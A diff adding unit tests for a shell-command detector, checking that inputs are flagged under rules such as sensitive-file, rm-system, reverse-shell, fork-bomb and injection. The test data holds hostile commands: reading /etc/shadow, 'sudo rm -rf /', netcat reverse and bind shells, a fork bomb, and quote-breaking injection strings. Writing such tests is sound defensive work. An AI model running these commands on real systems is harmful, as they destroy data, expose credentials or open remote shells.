@@ -89,3 +89,26 @@ describe('shell detector: hostile input', () => {
     }
   });
 });
+
+describe('shell detector: fast path and single parse', () => {
+  test('syntax-free values are judged without a parse, with the same rules', () => {
+    assert.ok(rules(cmd('cat /etc/shadow')).includes('shell.sensitive-file'));
+    assert.ok(rules(cmd('sudo rm -rf /')).includes('shell.rm-system'));
+    assert.ok(rules(arg('nc -e /bin/sh 10.0.0.1 4444')).includes('shell.reverse-shell'));
+    assert.deepEqual(arg('report-2024-q3.final.pdf'), []);
+    assert.deepEqual(cmd('ls -la /srv/app/logs'), []);
+  });
+  test('a value starting with a loop or function is also parsed in command position', () => {
+    assert.ok(rules(arg("while true ; do nc -l -p 1500 -c 'sh'; done")).includes('shell.reverse-shell'));
+    assert.ok(rules(arg(':(){ :|:& };:')).includes('shell.fork-bomb'));
+  });
+  test('more commands than the bound yield a medium too-complex finding (fail closed, not silent)', () => {
+    const f = arg('a; id '.repeat(200));
+    assert.ok(rules(f).includes('shell.too-complex'));
+    assert.ok(rules(f).includes('shell.injection'));
+  });
+  test('quoted contexts are tried only when the value can close them', () => {
+    assert.ok(rules(arg("x'; id; '")).includes('shell.injection'));
+    assert.ok(rules(arg('x"; id; "')).includes('shell.injection'));
+  });
+});
